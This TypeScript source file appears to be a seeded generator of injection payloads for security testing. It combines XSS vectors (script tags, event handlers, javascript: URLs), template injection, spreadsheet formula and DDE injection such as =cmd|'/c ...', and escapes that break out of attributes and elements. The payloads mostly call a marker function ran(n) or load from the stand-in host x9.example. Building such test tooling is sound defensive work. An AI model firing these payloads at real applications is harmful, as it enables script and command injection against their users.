import { createSeedRandom, pickRandom } from '../../seeded-random.ts';

/** Script payloads. Each calls `ran(n)` if executed, or leaves a detectable element if only inserted as markup. */
const bodies: readonly ((n: number) => string)[] = [
  (n) => `<script>ran(${n})</script>`,
  (n) => `<img src=x onerror=ran(${n})>`,
  (n) => `<svg onload=ran(${n})>`,
  (n) => `<svg><script>ran(${n})</script></svg>`,
  (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.ran(${n})"></iframe>`,
  (n) => `<a href="javascript:ran(${n})">x</a>`,
  (n) => `<details open ontoggle=ran(${n})>`,
  (n) => `<video><source onerror=ran(${n})></video>`,
  (n) => `<body onload=ran(${n})>`,
  (n) => `<input autofocus onfocus=ran(${n})>`,
  (n) => `<x9 data-x9=${n} style="animation:x" onanimationstart=ran(${n})>`,
  (n) => `<style>@import '//x9.example/${n}';</style>`,
  (n) => `<link rel=stylesheet href=//x9.example/${n}>`,
  (n) => `<meta http-equiv=refresh content="0;url=//x9.example/${n}">`,
  (n) => `<base href=//x9.example/${n}/>`,
  (n) => `<form action=//x9.example/${n}><button autofocus>x</button></form>`,
  (n) => `<object data=//x9.example/${n}></object><embed src=//x9.example/${n}>`,
  (n) => `<img src=//x9.example/${n}>`,
  (n) => `<math><mi xlink:href="javascript:ran(${n})">x</mi></math>`,
  (n) => `<template><script>ran(${n})</script></template>`,
  (n) => `<textarea></textarea><script>ran(${n})</script>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=ran(${n})>"></noscript>`,
  (n) => `<script src=//x9.example/${n}.js></script>`,
  (n) => `[x](javascript:ran(${n}))`,
  (n) => `![x](//x9.example/${n}.png)`,
  (n) => `javascript:ran(${n})`,
  (n) => `{{constructor.constructor('ran(${n})')()}}`,
  (n) => ['$', `{ran(${n})}`].join(''),
  (n) => `<x9 data-x9=${n}>`,
  (n) => `=HYPERLINK("http://x9.example/${n}","x9-${n}")`,
  (n) => `=cmd|'/c ran ${n}'!A0`,
  (n) => `+ran${n}+cmd|'/c x'!A0`,
  (n) => `-ran${n}+1`,
  (n) => `@SUM(ran${n})`,
  (n) => `＝IMPORTXML("http://x9.example/${n}","//a")`,
  (n) => `một;=WEBSERVICE("http://x9.example/${n}")`,
  (n) => `<![CDATA[<script>ran(${n})</script>]]>`,
  (n) => `]]><script>ran(${n})</script>`,
  (n) => `<?xml-stylesheet href="javascript:ran(${n})"?>`,
  (n) => `<a:script xmlns:a="http://www.w3.org/1999/xhtml">ran(${n})</a:script>`,
];

/** Prefixes by which a payload escapes from an attribute, element or script. */
const escapePrefixes: readonly ((body: string) => string)[] = [
  (body) => body,
  (body) => `">${body}`,
  (body) => `'>${body}`,
  (body) => `</title>${body}`,
  (body) => `</textarea>${body}`,
  (body) => `</script>${body}`,
  (body) => `</style>${body}`,
  (body) => `-->${body}<!--`,
  (body) => `\`>${body}`,
  (body) => `&lt;${body}&gt;`,
  (body) => `%3Cx%3E${body}`,
  (body) => `\u202e${body}`,
  (body) => `\u2028${body}`,
  (body) => `\\"}];${body}//`,
  (body) => `${body.replaceAll('<', '＜')}${body}`,
  (body) => body.replace(/<(\w)/g, (tag) => tag.toUpperCase()),
  (body) => body.replaceAll(' ', '/'),
  (body) => body.replaceAll(' ', '\t'),
  (body) => `" onmouseover=ran(0) x="${body}`,
  (body) => `Quán ${body} phường 7`,
];

/** Returns a generator of injection payloads, none of which repeats. */
export function openPayloads(seed: number) {
  const chance = createSeedRandom(seed);
  let takenCount = 0;
  const take = (most = 200): string => {
    for (;;) {
      const body = pickRandom(bodies, chance)?.(takenCount + 1) ?? '';
      const text = pickRandom(escapePrefixes, chance)?.(body) ?? '';
      if (text.length > most) continue;
      takenCount += 1;
      return text;
    }
  };
  return {
    taken: () => takenCount,
    take,
    /** Returns injection payloads that fill a long field, one per line. */
    many(most = 900): string {
      const lines: string[] = [];
      for (let left = most; left > 200; left -= (lines.at(-1)?.length ?? 0) + 1) {
        lines.push(take(200));
      }
      return lines.join('\n');
    },
  };
}
export type Payloads = ReturnType<typeof openPayloads>;
